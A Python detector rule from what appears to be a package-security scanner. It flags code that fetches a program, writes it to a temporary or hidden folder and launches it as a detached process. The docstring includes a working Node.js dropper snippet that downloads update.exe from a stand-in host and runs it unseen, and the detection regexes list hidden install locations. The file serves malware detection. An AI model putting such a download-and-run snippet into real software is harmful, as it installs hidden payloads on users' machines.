"""A program is fetched, written to a file and started.

*What it does*

Follows files: what comes over the network or out of a decoder, is written to a path, and is started by that path. It
speaks where something about it is furtive: the file lies in the folder for temporary files or below a hidden folder of
the user's home, the process is detached or unseen, or the address is bare (a number, or without encryption).

Installers do the same in the open: they fetch a program over an encrypted connection into their own folder and start it
where everybody sees it. They are not spoken of.

*Why it matters*

The package itself stays small and looks harmless; what does the harm is not in it, and another time it is another file.

*Example*

    const https = require("https"), fs = require("fs"), os = require("os"), path = require("path");
    const { spawn } = require("child_process");
    const target = path.join(os.tmpdir(), "update.exe");
    https.get("https://cdn.acme.invalid/update", (answer) => {
      answer.pipe(fs.createWriteStream(target)).on("close", () => spawn(target, [], { detached: true }).unref());
    });
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from assay.detectors.source._acts import Weight, when
from assay.javascript.drops import UNSEEN
from assay.model.finding import MAX_EXCERPT, Evidence, Finding, finding
from assay.model.rule import Concern, Rule, Severity
from assay.model.source import BehaviourKind, Flow, SourceFile
from assay.model.subject import Subject

RULE = Rule(
    id="dropper",
    title="Fetches a program, writes it down and starts it",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not install or run it. If it has run, look for the file that it wrote and what that left running.",
    techniques=("T1105", "T1204.002", "T1564"),
)
_ONE_SIGN = Weight(on_install=Severity.HIGH, when_used=Severity.MEDIUM, by_command=Severity.LOW)
_MORE_SIGNS = Weight(on_install=Severity.HIGH, when_used=Severity.HIGH, by_command=Severity.MEDIUM)
#: Where files lie that nobody is to find (ATT&CK T1564.001, T1036.005).
_HIDDEN_PLACE = re.compile(
    r"^<tmp>|^~/\.(?!cache\b|config/|local/|nvm\b|npm\b)|/(?:var/)?tmp/|/dev/shm/|AppData/|Users[\\/]+Public|ProgramData"
    r"|Windows[\\/]+Temp",
    re.IGNORECASE,
)
_BARE_ADDRESS = re.compile(r" to (?:http://(?!localhost|127\.)|https?://\d{1,3}(?:\.\d{1,3}){3})")


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each process that is started of a file that was fetched, where something about it is furtive."""
    for file in subject.sources:
        for flow in file.flows:
            if not flow.steps or flow.sink.kind is not BehaviourKind.PROCESS:
                continue
            signs = tuple(_signs(flow))
            if signs:
                yield _finding(subject, file, flow, signs)
                break


def _signs(flow: Flow) -> Iterator[str]:
    """What is furtive about it."""
    if _HIDDEN_PLACE.search(flow.steps[0]):
        yield "in a place where nobody looks"
    if UNSEEN in flow.sink.detail:
        yield "in a process that nobody sees"
    if flow.source.kind is BehaviourKind.NETWORK and _BARE_ADDRESS.search(flow.source.detail):
        yield "from a bare address"
    if flow.source.kind is BehaviourKind.DECODE:
        yield "out of a hidden text"


def _finding(subject: Subject, file: SourceFile, flow: Flow, signs: tuple[str, ...]) -> Finding:
    severity, confidence = (_MORE_SIGNS if len(signs) > 1 else _ONE_SIGN).of(file)
    return finding(
        RULE,
        f"{subject.ref} starts a file that it fetched, {' and '.join(signs)}, {when(file)}",
        Evidence(f"{flow.sink.detail} starts it", flow.sink.location, decoded=flow.sink.decoded),
        Evidence(f"it is written to {flow.steps[0]}"[:MAX_EXCERPT], flow.sink.location),
        Evidence(f"{flow.source.detail} brings it", flow.source.location),
        severity=severity,
        confidence=confidence,
    )
